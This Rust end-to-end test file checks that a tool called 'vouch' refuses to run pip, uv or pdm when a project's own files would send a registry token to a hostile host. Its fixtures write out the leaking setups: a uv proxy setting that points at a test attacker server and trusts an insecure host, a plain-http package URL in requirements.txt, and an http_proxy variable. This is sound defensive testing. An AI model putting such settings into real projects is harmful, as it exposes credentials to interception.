//! What a project's own files make pip, uv and pdm do with the token, and that `vouch exec` does not start them then.
//! `docs/untrusted-projects.md` tells it.

use vouch_e2e::hostile::HostileHost;
use vouch_e2e::python::{Client, HOST, five_packages, upload};
use vouch_e2e::{CommandOutput, Run, Sandbox, in_sandbox};

const PROJECT: &str = "[project]\nname = \"hello\"\nversion = \"0.1.0\"\nrequires-python = \">=3.9\"\ndependencies = [DEPENDENCIES]\n";

fn begin(sandbox: &Sandbox) -> HostileHost {
    sandbox.enroll();
    sandbox.log_in();
    upload(sandbox, "my-pypi-repo", &five_packages());
    HostileHost::start()
}

fn project(client: &Client, dependencies: &str) {
    client.write("hello/pyproject.toml", &PROJECT.replace("DEPENDENCIES", dependencies));
}

/// Runs a client in its project, which sends the token to the hostile host; then by way of `vouch exec`, which does not.
fn gives_away(client: &Client, hostile: &HostileHost, words: &[&str], file: &str, on_the_way: bool) {
    let prepared = |run: Run| {
        let run = run.within(client.file("hello"));
        // What is encrypted goes straight to the registry.
        if on_the_way { run.env("http_proxy", hostile.url()) } else { run }
    };
    let done = prepared(client.run(words[0]).args(&words[1..])).done();
    assert!(hostile.got_a_token(), "{words:?} sent nothing: {done}");
    let exec = client.prepared(Run::new("vouch")).args(["exec", "--type", "codeartifact", "--"]);
    let exec = prepared(exec.args(words)).done();
    refused(&exec, &client.file("hello").join(file).display().to_string());
    assert_eq!(hostile.arrived(), Vec::<String>::new(), "{exec}");
}

fn refused(done: &CommandOutput, file: &str) {
    assert_eq!(done.code, 125, "{done}");
    assert!(done.stderr.contains("was not started: this project would give the token away"), "{done}");
    assert!(done.stderr.contains(&format!("`{file}` line ")), "{file}: {done}");
}

#[test]
fn a_proxy_that_uv_is_told_to_believe() {
    in_sandbox(&[], |sandbox| {
        let hostile = begin(sandbox);
        for version in ["uv-0.9.30", "uv-0.13.9"] {
            let client = Client::new(sandbox, version, version);
            let _ = client.set_up("uv").ok();
            let lines = format!("https-proxy = \"{}\"\nallow-insecure-host = [\"{HOST}\"]\n", hostile.url());
            project(&client, "\"amber\"");
            client.write("hello/uv.toml", &lines);
            let lock = ["uv", "lock", "--no-cache"];
            gives_away(&client, &hostile, &lock, "uv.toml", false);
            std::fs::remove_file(client.file("hello/uv.toml")).unwrap();
            let text = PROJECT.replace("DEPENDENCIES", "\"amber\"") + "[tool.uv]\n" + &lines;
            client.write("hello/pyproject.toml", &text);
            gives_away(&client, &hostile, &lock, "pyproject.toml", false);
        }
    });
}

#[test]
fn a_python_package_over_plain_http() {
    in_sandbox(&[], |sandbox| {
        let hostile = begin(sandbox);
        let url = format!("http://{HOST}/pypi/my-pypi-repo/simple/amber/amber-1.0-py3-none-any.whl");
        for version in ["pip-25.3", "pip-26.3"] {
            let client = Client::new(sandbox, version, version);
            let _ = client.set_up("pip").ok();
            client.write("hello/requirements.txt", &format!("birch\namber @ {url}\n"));
            let install =
                ["pip", "install", "--disable-pip-version-check", "--no-cache-dir", "--retries", "0"];
            let install = [&install[..], &["--target", "site", "-r", "requirements.txt"]].concat();
            gives_away(&client, &hostile, &install, "requirements.txt", true);
        }
        let client = Client::new(sandbox, "pdm-", "pdm").with_backend();
        let _ = client.set_up("pdm").ok();
        project(&client, &format!("\"birch\", \"amber @ {url}\""));
        // It heeds no proxy for that.
        let plain = HostileHost::start_plain();
        gives_away(&client, &plain, &["pdm", "lock"], "pyproject.toml", false);
    });
}
